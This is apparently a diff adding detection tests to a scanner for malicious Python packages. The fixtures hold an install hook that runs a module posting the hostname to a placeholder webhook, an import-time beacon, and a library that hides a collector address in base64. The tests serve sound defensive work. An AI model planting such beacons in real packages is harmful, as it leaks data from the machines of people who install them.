@@ -738,6 +738,96 @@ def test_pip_install_runtime_benign_helper_when_called(tmp_path: Path, scanner: 
     assert_quiet(result, "pip-install-runtime", not_verdict=Verdict.SUSPICIOUS)
 
 
+RUNS_MODULE_SETUP = """import subprocess
+import sys
+from setuptools import setup
+from setuptools.command.install import install
+
+NAME = "fixture_test_kit"
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        subprocess.call([sys.executable, "-m", f"{NAME}.probe"])
+
+
+setup(name=NAME, version="1.0.0", cmdclass={"install": PostInstall})
+"""
+PROBE_MODULE = """import socket
+
+import requests
+
+
+def report():
+    host = socket.gethostname()
+    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", json={"h": host})
+
+
+if __name__ == "__main__":
+    report()
+"""
+
+
+def test_install_beacon_fires_in_module_setup_runs_even_with_test_in_its_name(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # `fixture_test_kit` is a package, not a test folder: a dev-sounding name must not hide a payload.
+    result = scan(
+        write_sdist(tmp_path, {"fixture_test_kit/probe.py": PROBE_MODULE}, setup_py=RUNS_MODULE_SETUP),
+        scanner,
+    )
+    assert_fires(result, "install-beacon", Verdict.MALICIOUS, file_endswith="fixture_test_kit/probe.py")
+
+
+IMPORT_TIME_BEACON = """import socket
+import urllib.request
+
+urllib.request.urlopen("https://webhook.site/00000000?h=" + socket.gethostname())
+"""
+
+
+def test_install_beacon_fires_at_import_of_package_named_like_tests(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {"formatter_test_kit/__init__.py": IMPORT_TIME_BEACON}), scanner)
+    assert_fires(result, "install-beacon", Verdict.MALICIOUS, file_endswith="formatter_test_kit/__init__.py")
+
+
+def test_real_test_folder_stays_dev(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {"tests/test_probe.py": PROBE_MODULE}), scanner)
+    assert result.verdict is Verdict.CLEAN, describe(result)
+
+
+HIDDEN_ENDPOINT_LIBRARY = f"""import base64
+
+import requests
+
+
+def lookup():
+    address = base64.b64decode("{b64("https://collector.example.invalid/api")}").decode()
+    return requests.get(address).json()
+"""
+CLOUD_ID_LIBRARY = """import base64
+
+import requests
+
+
+def connect(cloud_id):
+    host = base64.b64decode(cloud_id.split(":")[1]).decode().split("$")[0]
+    return requests.get("https://" + host)
+"""
+
+
+def test_exfil_sink_fires_for_address_hidden_by_encoding(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/api.py": HIDDEN_ENDPOINT_LIBRARY}), scanner)
+    found = assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+    assert any("collector.example.invalid" in f.reason for f in found), describe(result)
+
+
+def test_exfil_sink_benign_address_decoded_from_configuration(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cloud.py": CLOUD_ID_LIBRARY}), scanner)
+    assert_quiet(result, "exfil-sink")
+
+
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
     assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
